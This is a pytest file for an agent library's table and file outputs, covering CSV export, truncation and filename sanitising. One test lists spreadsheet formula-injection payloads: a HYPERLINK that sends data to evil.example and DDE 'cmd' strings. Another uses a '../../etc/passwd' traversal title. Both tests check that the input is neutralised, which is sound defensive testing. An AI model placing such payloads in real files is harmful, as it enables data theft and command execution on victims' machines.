"""What tools make: files of any kind and tables, for the person and, in words, for the model."""

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from tests.loop import finished_tools
from tests.tool_context import Conversation
from user_agent import RolePlay, Table, ToolContext, ToolOutput, tool
from user_agent.events import ToolFinished
from user_agent.messages import FilePart, ToolCallPart
from user_agent.models.scripted import ScriptedModel, calls
from user_agent.net import Http
from user_agent.tools.base import Tool
from user_agent.tools.calling import call_tool
from user_agent.transcript import Transcript
from user_agent.words import Language

CITIES = Table(["城市", "人口"], [["上海", 24_870_000], ["Zürich, ZH", None]], title="Cities")


async def answered(made: object, kept: Conversation | None = None, *, language: Language = "en") -> ToolFinished:
    """The call of a tool that answers with this, as the loop makes it."""

    @tool
    async def make(context: ToolContext) -> object:
        """Make something."""
        return made

    async with Http() as http:
        context = ToolContext(http=http, language=language)
        if kept:
            context = ToolContext(http=http, language=language, keep=kept.keep, files=kept)
        return await call_tool(ToolCallPart(id="c1", name="make", arguments={}), {"make": make}, context, timeout_s=10)


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- tables ---


async def test_a_table_is_shown_to_the_person_kept_as_csv_and_read_by_the_model() -> None:
    kept = Conversation()
    finished = await answered(CITIES, kept)
    [table] = finished.tables
    assert (table.title, table.columns) == ("Cities", ("城市", "人口"))
    assert table.rows == (("上海", 24_870_000), ("Zürich, ZH", None))
    [(file, data)] = kept.files.values()
    assert table.file == file
    assert (file.name, file.media_type) == ("Cities.csv", "text/csv")
    assert rows_of(data) == [["城市", "人口"], ["上海", "24870000"], ["Zürich, ZH", ""]]
    assert '城市,人口\n上海,24870000\n"Zürich, ZH",\n' in finished.output
    assert "Cities.csv" in finished.output and file.file in finished.output and "sees this table" in finished.output


async def test_the_model_is_told_of_a_table_in_the_agents_language() -> None:
    assert "用户已经看到这张表" in (await answered(CITIES, language="zh")).output


async def test_a_table_is_shown_where_there_is_no_place_for_its_file() -> None:
    finished = await answered(CITIES)
    assert not finished.failed
    assert finished.tables[0].file is None
    assert "Cities.csv" not in finished.output


async def test_a_long_table_is_cut_for_the_page_and_more_for_the_model_but_not_in_its_file() -> None:
    kept = Conversation()
    columns = [f"c{number}" for number in range(60)]
    rows = [[number, *["x" * 20] * 59] for number in range(3_000)]
    finished = await answered(Table(columns, rows), kept)
    [table] = finished.tables
    assert (table.total_rows, table.total_columns, len(table.columns)) == (3_000, 60, 50)
    assert 50 < len(table.rows) <= 500
    assert len(finished.output) < 10_000
    assert len(finished.model_dump_json()) < 250_000
    assert "of 3000 rows" in finished.output
    written = rows_of(kept.last[1])
    assert (len(written), len(written[-1]), written[-1][0]) == (3_001, 60, "2999")


async def test_cells_that_are_no_plain_values_are_shown_as_words() -> None:
    values = (date(2026, 11, 27), Decimal("1.50"), float("nan"), 2**60, True, -0.5, "x" * 1_000, "a\ud800")
    finished = await answered(Table(["v"], [[value] for value in values]))
    [table] = finished.tables
    cells = [row[0] for row in table.rows]
    assert cells[:6] == ["2026-11-27", "1.50", "nan", str(2**60), True, -0.5]
    assert len(str(cells[6])) == 500
    assert cells[7] == "a\ufffd"


@pytest.mark.parametrize("row", [[], [1], [1, 2, 3]], ids=["none", "short", "long"])
async def test_rows_have_as_many_cells_as_there_are_columns(row: list[object]) -> None:
    kept = Conversation()
    finished = await answered(Table(["a", "b"], [row]), kept)
    assert len(finished.tables[0].rows[0]) == 2
    assert len(rows_of(kept.last[1])[1]) == 2


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "\n@x",
    ],
)
async def test_no_cell_of_the_file_is_a_formula(cell: str) -> None:
    kept = Conversation()
    await answered(Table([cell], [[cell]]), kept)
    assert rows_of(kept.last[1]) == [[f"'{cell}"], [f"'{cell}"]]


@pytest.mark.parametrize("cell", ["-5", "+49.5", "-1,234.5", "-3e4", "-12%", "a=b", "1-2", ""])
async def test_numbers_and_other_words_are_left_as_they_are(cell: str) -> None:
    kept = Conversation()
    await answered(Table(["a", "b"], [[cell, -5]]), kept)
    assert rows_of(kept.last[1])[1] == [cell, "-5"]


@pytest.mark.parametrize(
    ("title", "name"),
    [("", "table.csv"), ("../../etc/passwd", "etc passwd.csv"), ('a/b\\c:"d"\n', "a b c d.csv"), ("...", "table.csv")],
)
async def test_a_title_becomes_a_files_name(title: str, name: str) -> None:
    kept = Conversation()
    await answered(Table(["a"], [], title=title), kept)
    assert kept.last[0].name == name


def test_a_table_has_columns() -> None:
    with pytest.raises(ValueError, match="at least one column"):
        Table([], [])


# --- files ---


REPORT = FilePart(file="f1", name="报告.xlsx", media_type="application/vnd.ms-excel", size_bytes=3)
PICTURE = FilePart(file="f2", name="plot.png", media_type="image/png", size_bytes=3)


@pytest.mark.parametrize(
    ("made", "files", "told"),
    [
        (REPORT, (REPORT,), ["'报告.xlsx' is ready (number f1)", "download"]),
        (ToolOutput(files=(REPORT, PICTURE)), (REPORT, PICTURE), ["number f1", "picture is ready (number f2)"]),
        (ToolOutput("Two sheets.", (REPORT,)), (REPORT,), ["Two sheets."]),
        (ToolOutput("Both.", (PICTURE,), (CITIES,)), (PICTURE,), ["Both.", "上海,24870000"]),
    ],
    ids=["alone", "several", "with words", "with a table"],
)
async def test_the_person_gets_the_files_and_the_model_is_told(
    made: object, files: tuple[FilePart, ...], told: list[str]
) -> None:
    finished = await answered(made)
    assert finished.files == files
    assert [words for words in told if words not in finished.output] == []


async def test_the_library_yields_files_and_tables_and_keeps_them_in_the_folder(tmp_path: Path) -> None:
    bot = RolePlay(
        llm=ScriptedModel([calls(("report", "{}")), "Here it is."]),
        function_list=[report],
        output_folder=tmp_path,
        language="en",
    )
    events = [event async for event in bot.run("Make a report")]
    [finished] = finished_tools(events)
    assert [file.file for file in finished.files] == ["report.svg"]
    assert finished.tables[0].file and finished.tables[0].file.file == "Cities.csv"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["Cities.csv", "report.svg"]
    transcript = Transcript()
    for event in events:
        transcript.add(event)
    [result] = [result for message in transcript.new for result in message.results]
    assert (result.files, result.tables) == (finished.files, finished.tables)


async def _report(context: ToolContext) -> ToolOutput:
    """Make a report."""
    drawing = await context.keep(b"<svg/>", name="report.svg", media_type="image/svg+xml")
    return ToolOutput("Done.", (drawing,), (CITIES,))


report: Tool = tool(name="report")(_report)
